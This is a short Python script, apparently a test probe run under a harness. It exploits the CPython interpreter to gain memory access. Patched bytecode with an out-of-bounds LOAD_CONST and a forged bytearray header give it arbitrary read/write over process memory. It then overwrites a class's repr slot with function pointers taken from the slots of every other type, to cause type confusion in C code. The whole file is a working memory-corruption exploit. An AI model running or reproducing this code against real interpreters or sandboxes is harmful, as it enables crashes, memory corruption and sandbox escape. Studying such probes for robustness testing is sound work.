"""Fills a type's slot with the functions of all other types, so that C code is given objects it was not meant for."""
from platform_sdk import send_output
import opcode, struct

WORD = struct.calcsize("P")
HEAD = bytes.__basicsize__ - 1

def words(*values):
    return b"".join((value & ((1 << 8 * WORD) - 1)).to_bytes(WORD, "little") for value in values)

def whole_memory():
    def take():
        return 0
    array = words(1 << 20, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
    slot = words(id(array) + HEAD)
    first = id(take.__code__.co_consts) + tuple.__basicsize__
    index = ((id(slot) + HEAD - first) // WORD) & 0xFFFFFFFF
    code = bytes([opcode.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap["EXTENDED_ARG"], index >> shift & 255])
    take.__code__ = take.__code__.replace(
        co_code=code + bytes([opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]))
    return take(), array, slot

class Victim:
    def __repr__(self):
        return "victim"

def classes(of, seen):
    for cls in type.__subclasses__(of):
        if cls not in seen:
            seen.add(cls)
            classes(cls, seen)
    return seen

memory, *keep = whole_memory()
send_output("HELD:before")
# The slots that take one object: repr, hash, str, clear, iter, iternext. What fills them in other types is callable there.
slots = (11, 15, 17, 24, 27, 28)
found = {bytes(memory[id(cls) + WORD * slot:id(cls) + WORD * slot + WORD]) for cls in classes(object, set()) for slot in slots}
victim, call = Victim(), id(Victim) + WORD * 11
for index in sorted(found - {bytes(WORD)}):
    memory[call:call + WORD] = index
    try:
        repr(victim)
    except Exception:
        pass
